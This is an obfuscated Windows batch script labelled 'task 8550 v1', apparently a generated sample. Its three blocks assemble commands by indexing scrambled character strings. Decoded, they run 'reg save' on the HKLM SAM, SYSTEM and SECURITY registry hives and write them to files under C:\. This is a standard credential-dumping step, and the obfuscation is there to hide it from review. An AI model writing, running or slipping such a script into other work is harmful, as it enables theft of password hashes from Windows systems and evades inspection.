REM task 8550 v1
@echo off
set "bqqm=6w.\unaGvoTekUmlqgshWiNr4jpCd:"
%bqqm:~-7,1%%bqqm:~11,1%%bqqm:~17,1% %bqqm:~-12,1%%bqqm:~-24,1%%bqqm:~-22,1%%bqqm:~-19,1% %bqqm:~-11,1%%bqqm:~12,1%%bqqm:~15,1%%bqqm:~-16,1%%bqqm:~3,1%%bqqm:~18,1%%bqqm:~6,1%%bqqm:~-16,1% %bqqm:~27,1%%bqqm:~-1,1%%bqqm:~-27,1%%bqqm:~20,1%%bqqm:~21,1%%bqqm:~5,1%%bqqm:~-2,1%%bqqm:~9,1%%bqqm:~-29,1%%bqqm:~-12,1%%bqqm:~3,1%%bqqm:~-20,1%%bqqm:~11,1%%bqqm:~14,1%%bqqm:~26,1%%bqqm:~-27,1%%bqqm:~-12,1%%bqqm:~-24,1%%bqqm:~14,1%%bqqm:~2,1%%bqqm:~-12,1%%bqqm:~6,1%%bqqm:~8,1%%bqqm:~-19,1%
@echo off
set "cgpd=GryomVwiKv.ge:sktCuczWdljph1Tqna\x"
%cgpd:~-33,1%%cgpd:~-22,1%%cgpd:~-23,1% %cgpd:~14,1%%cgpd:~31,1%%cgpd:~-25,1%%cgpd:~12,1% %cgpd:~26,1%%cgpd:~-19,1%%cgpd:~-11,1%%cgpd:~4,1%%cgpd:~32,1%%cgpd:~14,1%%cgpd:~-22,1%%cgpd:~19,1%%cgpd:~18,1%%cgpd:~1,1%%cgpd:~-27,1%%cgpd:~16,1%%cgpd:~2,1% %cgpd:~17,1%%cgpd:~13,1%%cgpd:~32,1%%cgpd:~21,1%%cgpd:~-27,1%%cgpd:~30,1%%cgpd:~22,1%%cgpd:~3,1%%cgpd:~-28,1%%cgpd:~14,1%%cgpd:~32,1%%cgpd:~28,1%%cgpd:~12,1%%cgpd:~4,1%%cgpd:~-9,1%%cgpd:~32,1%%cgpd:~14,1%%cgpd:~12,1%%cgpd:~19,1%%cgpd:~18,1%%cgpd:~-33,1%%cgpd:~-27,1%%cgpd:~16,1%%cgpd:~2,1%%cgpd:~10,1%%cgpd:~-20,1%%cgpd:~-3,1%%cgpd:~9,1%%cgpd:~12,1%
@echo off
set "jswk=Cl4qsdyRew\WgoitnmhQfaTkGDXpv.r:"
%jswk:~-2,1%%jswk:~8,1%%jswk:~12,1% %jswk:~4,1%%jswk:~21,1%%jswk:~28,1%%jswk:~8,1% %jswk:~-14,1%%jswk:~-9,1%%jswk:~1,1%%jswk:~-15,1%%jswk:~10,1%%jswk:~4,1%%jswk:~-26,1%%jswk:~4,1%%jswk:~15,1%%jswk:~-24,1%%jswk:~17,1% %jswk:~0,1%%jswk:~31,1%%jswk:~10,1%%jswk:~-21,1%%jswk:~14,1%%jswk:~16,1%%jswk:~5,1%%jswk:~13,1%%jswk:~9,1%%jswk:~4,1%%jswk:~10,1%%jswk:~22,1%%jswk:~8,1%%jswk:~17,1%%jswk:~27,1%%jswk:~-22,1%%jswk:~-28,1%%jswk:~6,1%%jswk:~4,1%%jswk:~15,1%%jswk:~8,1%%jswk:~17,1%%jswk:~-3,1%%jswk:~-28,1%%jswk:~21,1%%jswk:~28,1%%jswk:~-24,1%
